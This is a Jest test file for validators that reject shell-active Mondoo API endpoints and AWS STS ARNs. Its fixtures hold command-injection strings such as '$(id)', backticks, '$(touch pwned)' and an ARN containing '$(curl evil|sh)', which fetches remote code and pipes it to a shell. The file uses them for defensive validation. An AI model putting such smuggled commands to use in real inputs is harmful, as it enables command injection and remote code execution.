/**
 * Outputs are shell-inert: api-endpoint (from Mondoo's answer) is only https://host[:port] with a conservative
 * path, and an ARN (from STS GetCallerIdentity or AssumeRoleWithWebIdentity) only AWS's ARN alphabet in the
 * arn:partition:service:region:account:resource shape. Anything else is MONDOO_BAD_RESPONSE or STS_FAILED,
 * with the value quoted escaped.
 */
import { describe, expect, it } from '@jest/globals';
import { AuthError } from '../../../src/core/safety/errors.js';
import type { HttpClient } from '../../../src/core/network/http.js';
import { decodeCredential, decodeTokenResponse } from '../../../src/core/mondoo/issued-credential.js';
import { isApiEndpoint, isArn } from '../../../src/core/safety/server-values.js';
import { assumeRoleWithWebIdentity, lookupCallerIdentity, StsBadAnswer } from '../../../src/core/sts/sts.js';

/** What a shell would act on, each inside an otherwise ordinary value. */
const SHELL = [
  '$(id)',
  '`id`',
  ';id',
  '|id',
  '&id',
  '{a,b}',
  ' id',
  '\tid',
  '${HOME}',
  "'",
  '"',
  '\\',
  '>x',
  '<x',
  '*',
  '?',
  '!',
  '#',
];

describe('api_endpoint', () => {
  it.each([
    'https://us.api.mondoo.com',
    'https://eu.api.mondoo.com/',
    'https://api.mondoo.example:8443/v1/mondoo_api-2.x~y',
    'https://10.0.0.7',
    'https://[2001:db8::1]:443/api',
    'http://127.0.0.1:41234',
    'http://[::1]:8080',
  ])('accepts %s', (value) => {
    expect(isApiEndpoint(value)).toBe(true);
  });

  it.each([
    ...SHELL.map((bad) => `https://us.api.mondoo.com/${bad}`),
    'https://us.api.mondoo.com$(id)',
    'https://$(id).example',
    'https://a;b.example',
    'http://api.example.com', // plain http off loopback
    'https://user@us.api.mondoo.com',
    'https://us.api.mondoo.com/?q=1',
    'https://us.api.mondoo.com/#x',
    'https://us.api.mondoo.com/%24(id)',
    'https://us.api.mondoo.com:99999',
    'https://-bad.example',
    'https://[not:v6:zz]',
    'ftp://us.api.mondoo.com',
    'HTTPS://US.API.MONDOO.COM',
    '',
  ])('refuses %j', (value) => {
    expect(isApiEndpoint(value)).toBe(false);
  });

  const KEY =
    '-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg\n-----END PRIVATE KEY-----\n';
  const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64');
  const credential = (apiEndpoint: string): string =>
    encode({
      mrn: '//agents.api.mondoo.app/spaces/s/serviceaccounts/1',
      private_key: KEY,
      certificate: 'c',
      api_endpoint: apiEndpoint,
    });

  it('refuses a credential whose api_endpoint a shell would act on, quoting it escaped (MONDOO_BAD_RESPONSE)', () => {
    for (const decode of [decodeCredential, decodeTokenResponse]) {
      let err: unknown;
      try {
        decode(
          decode === decodeCredential
            ? credential('https://x.example/$(touch pwned)\n')
            : encode({ token: 't', api_endpoint: 'https://x.example/`id`' }),
        );
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(AuthError);
      expect((err as AuthError).code).toBe('MONDOO_BAD_RESPONSE');
      expect((err as AuthError).message).toMatch(
        decode === decodeCredential
          ? /: the field api_endpoint is not an https URL \(https:\/\/host\[:port\] with an optional path of A-Z a-z 0-9 \. _ ~ \/ -\): "https:\/\/x\.example\/\$\(touch pwned\)\\n"\. Nothing was exported\./
          : /: the field api_endpoint is not an https URL \(.*\): "https:\/\/x\.example\/`id`"\. Nothing was exported\./,
      );
    }
    expect(decodeCredential(credential('https://us.api.mondoo.com')).apiEndpoint).toBe('https://us.api.mondoo.com');
  });
});

describe('ARNs', () => {
  const ASSUMED = 'arn:aws:sts::123456789012:assumed-role/mondoo-ci/user=ci@example.com';

  it.each([
    ASSUMED,
    'arn:aws:iam::123456789012:user/path/to/ci-bot',
    'arn:aws:iam::123456789012:root',
    'arn:aws-us-gov:sts::123456789012:assumed-role/R/s+1,2.3_4-5',
    'arn:aws-cn:sts::123456789012:federated-user/bob',
  ])('accepts %s', (value) => {
    expect(isArn(value)).toBe(true);
  });

  it.each([
    ...SHELL.map((bad) => `arn:aws:sts::123456789012:assumed-role/R/${bad}`),
    'arn:aws:iam::12345678901:user/x', // 11 digits
    'arn:aws:iam::1234567890123:user/x',
    'arn:aws:iam:::user/x',
    'arn:aws:iam::123456789012:',
    'arn:AWS:iam::123456789012:user/x',
    'arn:aws:iam::123456789012:user/x##[group]',
    'arn:aws:iam::123456789012:user/x\n::error::y',
    'aws:iam::123456789012:user/x',
  ])('refuses %j', (value) => {
    expect(isArn(value)).toBe(false);
  });

  const identityXml = (arn: string, account = '123456789012'): string =>
    `<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>${arn}</Arn><UserId>AIDA</UserId><Account>${account}</Account></GetCallerIdentityResult></GetCallerIdentityResponse>`;
  const answering =
    (body: string): HttpClient =>
    async () => ({ status: 200, headers: {}, body });
  const KEYS = { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' };
  const TARGET = { endpoint: 'https://sts.eu-west-1.amazonaws.com', region: 'eu-west-1' };
  const lookup = (body: string) =>
    lookupCallerIdentity(answering(body), KEYS, TARGET, new Date('2026-03-01T12:00:00Z'), 5000);

  it('GetCallerIdentity: refuses an Arn or Account a shell would act on, quoting it escaped (STS_FAILED)', async () => {
    const err = await lookup(identityXml('arn:aws:iam::123456789012:user/$(curl evil|sh)&amp;{x}')).catch(
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(StsBadAnswer);
    expect((err as AuthError).code).toBe('STS_FAILED');
    expect((err as AuthError).message).toBe(
      'STS GetCallerIdentity answered with an Arn that is not one (arn:partition:service:region:12-digit account:resource, of A-Z a-z 0-9 + = , . @ : / _ -): ' +
        '"arn:aws:iam::123456789012:user/$(curl evil|sh)&{x}". Nothing was exported. ' +
        'Check that https://sts.eu-west-1.amazonaws.com is AWS STS (AWS_ENDPOINT_URL_STS, AWS_ENDPOINT_URL).',
    );
    const account = await lookup(identityXml('arn:aws:iam::123456789012:user/x', '1234;id')).catch((e: unknown) => e);
    expect(account).toBeInstanceOf(StsBadAnswer);
    expect((account as AuthError).message).toContain(
      'an Account that is not a 12-digit account ID: "1234;id". Nothing was exported.',
    );
    expect(await lookup(identityXml(ASSUMED))).toEqual({ arn: ASSUMED, accountId: '123456789012' });
  });

  it('AssumeRoleWithWebIdentity: refuses an assumed-role Arn with a backtick or a space, quoting it escaped (STS_FAILED)', async () => {
    const answer = (arn: string): string =>
      `<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><AccessKeyId>ASIAEXAMPLEEXAMPLE01</AccessKeyId>` +
      `<SecretAccessKey>secret</SecretAccessKey><SessionToken>token</SessionToken><Expiration>2026-11-23T18:00:00Z</Expiration></Credentials>` +
      `<AssumedRoleUser><Arn>${arn}</Arn></AssumedRoleUser></AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>`;
    const params = {
      roleArn: 'arn:aws:iam::123456789012:role/mondoo-ci',
      sessionName: 'ci',
      durationSeconds: 900,
      webIdentityToken: 'x.y.z',
      tokenDescription: 'test',
      target: TARGET,
      timeoutMs: 4000,
    };
    const err = await assumeRoleWithWebIdentity(
      answering(answer('arn:aws:sts::123456789012:assumed-role/mondoo-ci/`id` x')),
      params,
    ).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(StsBadAnswer);
    expect((err as AuthError).code).toBe('STS_FAILED');
    expect((err as AuthError).message).toContain(
      'STS AssumeRoleWithWebIdentity for arn:aws:iam::123456789012:role/mondoo-ci answered with an assumed-role Arn that is not one (arn:partition:',
    );
    expect((err as AuthError).message).toContain(
      '"arn:aws:sts::123456789012:assumed-role/mondoo-ci/`id` x". Nothing was exported.',
    );
    expect((await assumeRoleWithWebIdentity(answering(answer(ASSUMED)), params)).identity).toEqual({
      arn: ASSUMED,
      accountId: '123456789012',
    });
  });
});
